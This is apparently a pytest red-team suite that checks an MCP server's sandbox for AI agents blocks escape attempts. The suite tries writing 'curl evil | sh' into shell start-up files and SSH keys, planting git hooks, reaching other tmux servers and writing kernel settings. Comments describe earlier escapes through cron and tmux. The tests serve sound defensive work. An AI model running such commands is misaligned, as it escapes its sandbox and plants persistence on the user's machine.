"""The red team's cases against ``tether mcp --sandbox``, through the official MCP client, as root.

The working directory is the user's ``$HOME`` (a writable root), so only the sandbox's own rules
stand between a command and the user's start-up files, keys and repositories. Every attempt must
fail with a structured denial while a benign write in the same command succeeds.
"""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
from sandbox_mcp_harness import bash, denials, params, server, text_of, tree

pytestmark = pytest.mark.timeout(180)
SYSCTL = Path("/proc/sys/kernel/printk_ratelimit")
CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / "tools" / "bin").mkdir(parents=True)  # a directory on the server's PATH
    (home / ".bashrc").write_text("# the user's bashrc\n")
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "config").write_text("Host *\n")
    (home / ".gitconfig").write_text("[user]\n\tname = the user\n")
    return home


def _read(path: Path) -> str:
    return path.read_text()


def _restore(path: Path, value: str) -> None:
    if path.read_text() != value:  # never leave the host changed, even when the test fails
        path.write_text(value)


def _windows(sock: Path) -> list[str]:
    out = subprocess.run(
        ["tmux", "-S", str(sock), "list-windows", "-a"], capture_output=True, text=True, check=True
    )
    return out.stdout.splitlines()


def _exists(path: str) -> bool:
    return os.path.exists(path)


def _benign(home: Path) -> tuple[str, str]:
    marker = secrets.token_hex(4)
    return f"; echo {marker} > {home}/benign.txt", marker


def _benign_done(home: Path, marker: str) -> None:
    assert (home / "benign.txt").read_text() == f"{marker}\n"


async def test_kernel_settings_stay_as_they_are(tether_home: Path, home: Path) -> None:
    before, pattern = _read(SYSCTL), _read(CORE_PATTERN)
    changed = str(int(before) + 1)
    tail, marker = _benign(home)
    try:
        async with server(tether_home, home, "--sandbox") as client:
            text, data = await bash(
                client,
                f"echo {changed} > {SYSCTL}; echo '|/bin/false' > {CORE_PATTERN}; "
                f"unshare -U -r sh -c 'echo {changed} > {SYSCTL}'; "
                "grep -E '^(CapEff|NoNewPrivs):' /proc/self/status" + tail,
            )
    finally:
        _restore(SYSCTL, before)
    assert _read(SYSCTL) == before and _read(CORE_PATTERN) == pattern
    assert "CapEff:\t0000000000000000" in text and "NoNewPrivs:\t1" in text
    assert ("write", str(SYSCTL)) in denials(data) and ("write", str(CORE_PATTERN)) in denials(data)
    _benign_done(home, marker)


@contextlib.contextmanager
def other_tmux_server(parent: str = "/var/tmp") -> Iterator[Path]:
    """A tmux server of someone else, its socket in ``parent`` (by default outside /tmp, /run and
    TETHER_HOME)."""
    directory = Path(tempfile.mkdtemp(prefix="tt-", dir=parent))
    sock = directory / "s"
    try:
        subprocess.run(
            ["tmux", "-S", str(sock), "new-session", "-d", "-s", "victim", "sleep 600"], check=True
        )
        yield sock
    finally:
        subprocess.run(["tmux", "-S", str(sock), "kill-server"], capture_output=True, check=False)
        sock.unlink(missing_ok=True)
        directory.rmdir()


async def test_another_tmux_server_cannot_be_reached(tether_home: Path, home: Path) -> None:
    tail, marker = _benign(home)
    with other_tmux_server() as sock:
        async with server(tether_home, home, "--sandbox") as client:
            text, data = await bash(
                client,
                f"tmux -S {sock} ls; echo ls=$?; tmux -S {sock} new-window 'touch /etc/owned'; echo new=$?"
                + tail,
            )
        windows = _windows(sock)
    assert "ls=1" in text and "new=1" in text and "victim" not in text
    assert len(windows) == 1  # nothing was typed or opened there
    assert ("socket", str(sock)) in denials(data)
    _benign_done(home, marker)


@contextlib.contextmanager
def abstract_listener() -> Iterator[tuple[socket.socket, str]]:
    name = f"tether-red-team-{secrets.token_hex(4)}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        listener.bind("\0" + name)
        listener.listen(4)
        listener.setblocking(False)
        yield listener, name
    finally:
        listener.close()


@pytest.mark.parametrize("mode", ["use_default", "allow_network"])
async def test_an_abstract_socket_of_the_host_cannot_be_reached(
    tether_home: Path, home: Path, mode: str
) -> None:
    (tether_home / "config.toml").write_text('[sandbox]\nallow_escalations = ["allow_network"]\n')
    tail, marker = _benign(home)
    extra = {} if mode == "use_default" else {"sandbox_permissions": mode, "justification": "red team"}
    with abstract_listener() as (listener, name):
        async with server(tether_home, home, "--sandbox") as client:
            script = f"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}'); print('connected')"
            text, data = await bash(client, f'python3 -c "{script}"; echo rc=$?' + tail, **extra)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "connected" not in text and "rc=1" in text
    assert ("socket", "AF_UNIX") in denials(data)
    _benign_done(home, marker)


ATTEMPTS = (
    ".bashrc",
    ".bash_aliases",
    ".profile",
    ".ssh/authorized_keys",
    ".ssh/rc",
    ".ssh/config",
    ".gitconfig",
    ".config/git/config",
    ".local/bin/git",
    "bin/git",
    "tools/bin/git",
    ".config/autostart/evil.desktop",
    ".config/systemd/user/evil.service",
    ".tmux.conf",
)


async def test_persistence_paths_under_a_home_workdir_stay_unchanged(tether_home: Path, home: Path) -> None:
    before = tree(home)
    tail, marker = _benign(home)
    writes = "; ".join(f"mkdir -p $(dirname ~/{p}); echo 'curl evil | sh' >> ~/{p}" for p in ATTEMPTS)
    moves = "; mv ~/.ssh ~/.ssh-old; mv ~/.config ~/.config-old"
    async with server(tether_home, home, "--sandbox") as client:
        text, data = await bash(client, writes + moves + tail)
    after = tree(home)
    after.pop(str(home / "benign.txt"))
    assert after == before, text
    found = denials(data)
    for path in ATTEMPTS:
        assert ("write", str(home / path)) in found, (path, text)
    _benign_done(home, marker)


def _dotfiles(home: Path) -> None:
    (home / "dotfiles" / "config" / "git").mkdir(parents=True)
    (home / "dotfiles" / "bashrc").write_text("# managed\n")
    (home / ".bashrc").unlink()
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    (home / ".config").symlink_to("dotfiles/config")


async def test_symlinked_dotfiles_cannot_be_swapped(tether_home: Path, home: Path) -> None:
    _dotfiles(home)
    tail, marker = _benign(home)
    swap = (
        "echo evil >> ~/.bashrc; rm ~/.bashrc; echo evil > ~/.bashrc; "
        "rm ~/.config; mkdir -p ~/.config/git; echo '[core] pager = evil' > ~/.config/git/config"
    )
    async with server(tether_home, home, "--sandbox") as client:
        text, data = await bash(client, swap + tail)
    assert os.readlink(home / ".bashrc") == "dotfiles/bashrc" and _read(home / ".bashrc") == "# managed\n"
    assert os.readlink(home / ".config") == "dotfiles/config"
    assert not (home / "dotfiles/config/git/config").exists()
    found = {target: detail for kind, target, detail in _all_denials(data)}
    assert "restored" in found[str(home / ".bashrc")] and "restored" in found[str(home / ".config")], text
    assert 'sandbox_permissions="require_escalated"' in text
    _benign_done(home, marker)


def _all_denials(data: dict[str, object]) -> list[tuple[str, str, str]]:
    sandbox = data["sandbox"]
    assert isinstance(sandbox, dict)
    return [(d["kind"], d["target"], d["detail"]) for d in sandbox["denials"]]


async def test_touching_proc_1_root_returns_a_denial_at_once(tether_home: Path, home: Path) -> None:
    tail, marker = _benign(home)
    async with server(tether_home, home, "--sandbox") as client:
        # A report that hangs would be promoted to a background job at this deadline.
        _, data = await bash(
            client, "touch /proc/1/root/etc/tether-x; touch /proc/self/root/usr/x" + tail, timeoutMs=60_000
        )
    assert ("write", "/etc/tether-x") in denials(data) and ("write", "/usr/x") in denials(data)
    detail = next(d["detail"] for d in data["sandbox"]["denials"] if d["target"] == "/etc/tether-x")
    assert "through /proc/1/root/etc/tether-x" in detail
    assert not _exists("/etc/tether-x")
    _benign_done(home, marker)


_SYSTEM_WORKDIRS = [
    d for d in ("/etc", "/etc/cron.d", "/usr/local/lib", "/var/spool", "/run") if os.path.isdir(d)
]


async def test_a_system_directory_is_never_a_writable_working_directory(
    tether_home: Path, home: Path
) -> None:
    # As root, `touch ./x` with workdir /etc/cron.d wrote a cron job that later ran outside.
    name = f"tether-sys-{secrets.token_hex(4)}"
    workdirs = _SYSTEM_WORKDIRS
    try:
        async with server(tether_home, home, "--sandbox") as client:
            for workdir in workdirs:
                result = await client.call_tool(
                    "bash", {"command": f"touch ./{name}", "description": "red team", "workdir": workdir}
                )
                text = text_of(result)
                assert result.is_error and f"cannot make '{workdir}' writable" in text, text
                assert "system directory" in text and "run as the user outside the sandbox" in text
                assert 'sandbox_permissions="allow_host_write", which a person approves' in text
            opened = await client.call_tool(
                "shell_open", {"tasks": [{"action": {"kind": "open", "cwd": "/etc/cron.d"}}]}
            )
            task = (opened.structured_content or {})["tasks"][0]
            assert opened.is_error and task["errorCode"] == "REFUSED", task
            assert "inside the system directory /etc" in task["error"]
            _, data = await bash(client, f"touch ./{name}", workdir="/var/tmp")  # scratch space stays
            assert data["exitCode"] == 0, data
        escaped = [d for d in workdirs if _exists(f"{d}/{name}")]
    finally:
        for directory in ("/var/tmp", *workdirs):  # never leave the host changed
            with contextlib.suppress(FileNotFoundError):
                os.unlink(f"{directory}/{name}")
    assert not escaped
    assert not _exists("/run/tether-sandbox")


def test_a_configured_kernel_writable_root_stops_the_server(tether_home: Path, home: Path) -> None:
    (tether_home / "config.toml").write_text('[sandbox]\nwritable_roots = ["/proc/sys"]\n')
    found = params(tether_home, home, "--sandbox")
    done = subprocess.run(
        [found.command, *found.args],
        env=found.env,
        cwd=found.cwd,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2 and done.stdout == "", done
    assert "[sandbox].writable_roots entry '/proc/sys' can never be writable" in done.stderr
    assert "Traceback" not in done.stderr


@contextlib.contextmanager
def _removed(path: Path) -> Iterator[None]:
    try:
        yield
    finally:
        path.unlink(missing_ok=True)  # never leave the host changed, even when the test fails


async def test_workdir_tmp_is_the_private_tmp_even_with_unix_sockets(tether_home: Path, home: Path) -> None:
    # With allow_unix_sockets, workdir /tmp bound the host's /tmp over the private one and
    # `tmux -S /tmp/x/s run-shell ...` ran a command outside the sandbox.
    (tether_home / "config.toml").write_text("[sandbox]\nallow_unix_sockets = true\n")
    name = f"tether-tmp-{secrets.token_hex(4)}"
    probe = (
        f"ls -A /tmp; pwd; tmux -S {{sock}} new-window 'sleep 601'; echo new=$?; "
        f"echo x > ./{name}; echo wrote=$?"
    )
    with other_tmux_server("/tmp") as sock, _removed(Path("/tmp", name)):
        async with server(tether_home, home, "--sandbox") as client:
            text, data = await bash(client, probe.format(sock=sock), workdir="/tmp")
            opened = await client.call_tool(
                "shell_open", {"tasks": [{"action": {"kind": "open", "cwd": "/tmp"}}]}
            )
            shell = (opened.structured_content or {})["tasks"][0]["shell"]
            task = {
                "target": {"sessions": shell},
                "action": {"kind": "run", "command": probe.format(sock=sock)},
                "wait": {"kind": "exit"},
            }
            ran = await client.call_tool("shell_run", {"tasks": [task]})
            lines = "\n".join((ran.structured_content or {})["tasks"][0]["lines"])
        windows = _windows(sock)
    for out in (text, lines):
        # Only what the sandbox masks there (TETHER_HOME, when it lies under /tmp) is in its /tmp.
        assert "\n/tmp\n" in out and "new=1" in out and "wrote=0" in out, out
        assert sock.parent.name not in out.split("error connecting")[0], out
    assert len(windows) == 1  # nothing was opened in the other server
    assert not _exists(f"/tmp/{name}")  # written in the private /tmp, gone with it
    assert data["sandbox"]["denials"] == [], data


def _sizes(text: str) -> dict[str, int]:
    """``df -B1 --output=size,target`` lines: each mount's size in bytes."""
    sizes: dict[str, int] = {}
    for line in text.splitlines():
        fields = line.split()
        if len(fields) == 2 and fields[0].isdigit():
            sizes[fields[1]] = int(fields[0])
    return sizes


async def test_a_command_cannot_pin_the_machines_memory_in_the_sandboxs_own_tmpfs(
    tether_home: Path, home: Path
) -> None:
    """The private /tmp, /run and bubblewrap's /dev are tmpfs: memory no process owns, so the OOM
    killer cannot take it back while the sandbox lives. Unsized, each held half the machine's RAM
    (a shell that filled them took the host's memory for its whole life); now each writable one
    holds ``[sandbox].tmpfs_size_mb`` (1 GiB by default) and /dev itself is read-only."""
    tail, marker = _benign(home)
    async with server(tether_home, home, "--sandbox") as client:
        text, data = await bash(
            client, "df -B1 --output=size,target /tmp /run /dev/shm; echo x > /dev/planted" + tail
        )
    sizes = _sizes(text)
    assert set(sizes) == {"/tmp", "/run", "/dev/shm"}, text
    assert all(size <= 1 << 30 for size in sizes.values()), sizes
    assert ("write", "/dev/planted") in denials(data), text
    _benign_done(home, marker)


async def test_a_working_directory_inside_a_protected_directory_or_git_hooks_is_refused(
    tether_home: Path, home: Path
) -> None:
    """A protected directory *above* the working directory was only the read-only filesystem, which
    the working directory's own writable bind covered: ``~/.config/fish/conf.d`` took a script the
    user's next fish runs, ``repo/.git/hooks`` (whose git directory the scan below the roots never
    sees) a hook the person's next ``git commit`` ran unconfined."""
    conf_d = home / ".config" / "fish" / "conf.d"
    wants = home / ".config" / "systemd" / "user" / "default.target.wants"
    for directory in (conf_d, wants):
        directory.mkdir(parents=True)
    await anyio.run_process(["git", "init", "-q", str(home / "repo")], check=True)
    hooks = home / "repo" / ".git" / "hooks"
    attack = "printf '#!/bin/sh\\ntouch planted\\n' > pre-commit; chmod +x pre-commit; echo x > evil.fish"
    async with server(tether_home, home, "--sandbox") as client:
        for workdir in (hooks, conf_d):
            result = await client.call_tool(
                "bash", {"command": attack, "description": "red team", "workdir": str(workdir)}
            )
            text = text_of(result)
            assert result.is_error and f"cannot make '{workdir}' writable" in text, text
            assert "REFUSED" in text and "run the command in" in text, text
        opened = await client.call_tool(
            "shell_open", {"tasks": [{"action": {"kind": "open", "cwd": str(wants)}}]}
        )
        task = (opened.structured_content or {})["tasks"][0]
        assert opened.is_error and task["errorCode"] == "REFUSED", task
        assert f"inside {home}/.config/systemd/user" in task["error"], task
        _, data = await bash(client, "echo fine > in-the-repo", workdir=str(home / "repo"))  # the work tree
        assert data["exitCode"] == 0, data
    assert not (hooks / "pre-commit").exists() and not (conf_d / "evil.fish").exists()
    assert not list(wants.iterdir())


async def test_a_background_job_reports_what_its_sandbox_denied(tether_home: Path, home: Path) -> None:
    """A job ran confined, but ``job_output`` said nothing of its denials or of what the repository
    check undid: the model saw ``Read-only file system`` at best, without the mode that would allow
    it — where a foreground call gets both."""
    target = f"/etc/tether-job-{secrets.token_hex(4)}"
    async with server(tether_home, home, "--sandbox") as client:
        started = await client.call_tool(
            "bash",
            {
                "command": f"touch {target} 2>/dev/null; true",
                "description": "red team",
                "run_in_background": True,
            },
        )
        job = (started.structured_content or {})["jobId"]
        for _ in range(60):  # each call waits up to 5 s for the end: a bound for a busy machine
            read = await client.call_tool("job_output", {"jobId": job, "timeoutMs": 5000})
            data = read.structured_content or {}
            if data["status"] != "running":
                break
    assert data["status"] == "completed", data
    assert ("write", target) in denials(data), data
    assert f"[sandbox denied: write {target}]" in text_of(read), text_of(read)
    assert 'sandbox_permissions="allow_host_write"' in text_of(read)
    assert not _exists(target)


async def test_the_global_hooks_directory_is_read_only(tether_home: Path, home: Path) -> None:
    """``core.hooksPath = ~/.githooks`` in ``~/.gitconfig`` runs those hooks in every repository; with
    the home as the working directory a planted ``pre-commit`` ran at the person's next commit."""
    (home / ".gitconfig").write_text("[user]\n\tname = the user\n[core]\n\thooksPath = ~/.githooks\n")
    (home / ".githooks").mkdir()
    tail, marker = _benign(home)
    async with server(tether_home, home, "--sandbox") as client:
        text, data = await bash(
            client, "printf '#!/bin/sh\\ntouch planted\\n' > .githooks/pre-commit; mv .githooks .gh" + tail
        )
    assert not (home / ".githooks" / "pre-commit").exists() and not (home / ".gh").exists(), text
    assert ("write", str(home / ".githooks/pre-commit")) in denials(data), text
    _benign_done(home, marker)
